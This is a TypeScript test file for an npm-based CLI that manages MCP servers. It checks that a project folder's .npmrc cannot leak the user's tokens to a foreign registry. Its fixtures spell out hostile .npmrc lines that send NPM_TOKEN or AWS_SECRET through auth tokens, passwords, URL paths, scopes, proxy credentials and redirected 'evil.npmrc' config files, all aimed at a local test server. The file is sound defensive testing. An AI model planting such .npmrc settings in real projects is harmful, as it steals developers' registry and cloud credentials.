// biome-ignore-all lint/suspicious/noTemplateCurlyInString: npm fills in variables.
import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { npmInProcess } from '../support/npm-in-process.js';
import { writeFolder } from '../support/packages.js';
import { runCli } from '../support/run-cli.js';

const secrets = { NPM_TOKEN: 't0ken-4f1c9a', AWS_SECRET: 's3cret-8b7d6e' };

let requests: string[] = [];
/** Documents by path. Others are missing. */
const answers = new Map<string, object>();
const stranger = createServer((request: IncomingMessage, response) => {
  requests.push(`${request.url} ${JSON.stringify(request.headers)}`);
  const answer = answers.get(request.url ?? '');
  response.writeHead(answer ? 200 : 404, { 'content-type': 'application/json' });
  response.end(JSON.stringify(answer ?? {}));
});
let host: string;
beforeAll(async () => {
  await once(stranger.listen(0, '127.0.0.1'), 'listening');
  host = `127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
afterAll(() => void stranger.close());

let home: string;
beforeEach(() => {
  requests = [];
  home = writeFolder({ '.npmrc': `registry=http://${host}/own/\n//${host}/own/:_authToken=mine\n` });
});

/** Folders whose `.npmrc` sends secrets of the user to a stranger. */
const folders: Readonly<Record<string, (stranger: string) => readonly string[]>> = {
  'a token': (to) => [`registry=http://${to}/`, `//${to}/:_authToken=\${NPM_TOKEN}`],
  'a password': (to) => [
    `registry=http://${to}/`,
    `//${to}/:username=x`,
    `//${to}/:_password=\${AWS_SECRET}`,
  ],
  'a path': (to) => [`registry=http://${to}/\${NPM_TOKEN}/`],
  'a scope': (to) => [`@acme:registry=http://${to}/\${AWS_SECRET?}/`],
  'a key': (to) => [`registry=http://${to}/`, `//${to}/:_auth\${EMPTY?}Token=\${NPM_TOKEN}`],
  'a proxy': (to) => [`proxy=http://\${NPM_TOKEN}@${to}`, `https-proxy=http://\${NPM_TOKEN}@${to}`],
};

/** Commands that look into registries, none of which installs. */
const commands: readonly (readonly string[])[] = [
  ['list-servers', '@acme/*', '--remote', '--mcp-registry', 'none'],
  ['show', '@acme/kit'],
  ['show', 'npm:@acme/kit'],
];

const secretsIn = (text: string) => Object.values(secrets).filter((secret) => text.includes(secret));
const sent = () =>
  requests.flatMap((request) => [
    request,
    Buffer.from(request.match(/Basic ([^"]+)/)?.[1] ?? '', 'base64').toString(),
  ]);

async function run(
  words: readonly string[],
  npmrc: readonly string[],
  files: Readonly<Record<string, string>> = {},
  more: Readonly<Record<string, string>> = {},
) {
  const cwd = writeFolder({ 'package.json': '{}', '.npmrc': npmrc.join('\n'), ...files });
  const env = { ...npmInProcess, PATH: process.env.PATH!, HOME: home, EMPTY: '', ...secrets, ...more };
  return await runCli(words, { home, cwd, env });
}

describe.each(Object.entries(folders))('a folder whose .npmrc sends %s', (_, npmrc) => {
  test.each(commands)('gets no secret by %s %s', async (...words) => {
    const { stderr } = await run(words, npmrc(host));
    expect(secretsIn(sent().join('\n'))).toEqual([]);
    expect(secretsIn(stderr)).toEqual([]);
    expect(stderr).toMatch(
      /\.npmrc sends .*(?:NPM_TOKEN|AWS_SECRET|all requests).* These settings are not used\./,
    );
  });

  test.each([
    ['add', '@acme/kit'],
    ['install', 'cursor', 'npm:@acme/kit'],
  ])('gets no secret by %s without consent', async (...words) => {
    const { code, stderr } = await run(words, npmrc(host));
    expect(code).toBe(1);
    expect(sent()).toEqual([]);
    expect(stderr).toContain(`${host}. Allow it with --yes`);
  });
});

/** Settings of a project that name other files for the settings of the user or the machine. */
const redirections: Readonly<Record<string, readonly [file: string, setting: string]>> = {
  userconfig: ['evil.npmrc', 'userconfig=./evil.npmrc'],
  globalconfig: ['evil.npmrc', 'globalconfig=./evil.npmrc'],
  prefix: ['etc/npmrc', 'prefix=.'],
};

describe.each(Object.entries(redirections))('a folder with %s', (_, [file, setting]) => {
  test.each([...commands, ['add', '@acme/kit', '--yes']])('gets no secret by %s %s', async (...words) => {
    const evil = `//${host}/:_authToken=\${NPM_TOKEN}`;
    await run(words, [`registry=http://${host}/`, setting], { [file]: evil });
    expect(requests.length).toBeGreaterThan(0);
    expect(secretsIn(sent().join('\n'))).toEqual([]);
  });
});

test.each([['outdated'], ['update', '--yes']])(
  '%s asks the registry of the user, in any folder',
  async (...words) => {
    const install = ['install', 'cursor', 'npm:@acme/mcp', '--command', 'npx', '--no-verify'];
    const published = { name: '@acme/mcp', version: '1.0.0', bin: 'server.js' };
    answers.set('/own/@acme%2Fmcp/latest', published);
    expect(await runCli(install, { home, cwd: home, env: { ...npmInProcess } })).toMatchObject({ code: 0 });
    requests = [];
    await run(words, [`registry=http://${host}/theirs/`]);
    expect(new Set(requests.map((request) => request.split(' ')[0]))).toEqual(
      new Set(['/own/@acme%2Fmcp/latest']),
    );
    answers.clear();
  },
);

test('start looks for the package of an entry at the registry of the user, in any folder', async () => {
  await run(['start', 'npm:@acme/mcp'], [`registry=http://${host}/theirs/`]);
  expect(requests.map((request) => request.split(' ')[0])).toEqual(['/own/@acme%2Fmcp/latest']);
});

test('a folder gets no setting of npm that the user has set by a variable', async () => {
  const own = { npm_config_token: secrets.NPM_TOKEN };
  const npmrc = [`registry=http://${host}/`, `//${host}/:_authToken=\${npm_config_token}`];
  const { stderr } = await run(['show', '@acme/kit'], npmrc, {}, own);
  expect(secretsIn(sent().join('\n'))).toEqual([]);
  expect(stderr).toContain('sends npm_config_token');
});

test('a folder with a section in its .npmrc gets no secret, and the registry of the user is asked', async () => {
  const { code, stderr } = await run(
    ['show', '@acme/kit'],
    ['[part]', `registry=http://${host}/`, `//${host}/:_authToken=\${NPM_TOKEN}`],
  );
  expect(code).toBe(1);
  expect(secretsIn(sent().join('\n'))).toEqual([]);
  expect(stderr).toContain('There is no server "@acme/kit"');
  expect(requests.filter((request) => !request.startsWith('/own/'))).toEqual([]);
});

test('add uses the settings with --yes', async () => {
  await run(['add', '@acme/kit', '--yes'], folders['a token']!(host));
  expect(secretsIn(sent().join('\n'))).toEqual([secrets.NPM_TOKEN]);
});

test('credentials of the user are not sent to the registry of a folder', async () => {
  await run(['show', '@acme/kit'], [`registry=http://localhost:${host.split(':')[1]}/`]);
  expect(requests.length).toBeGreaterThan(0);
  expect(requests.join('\n')).not.toContain('mine');
});
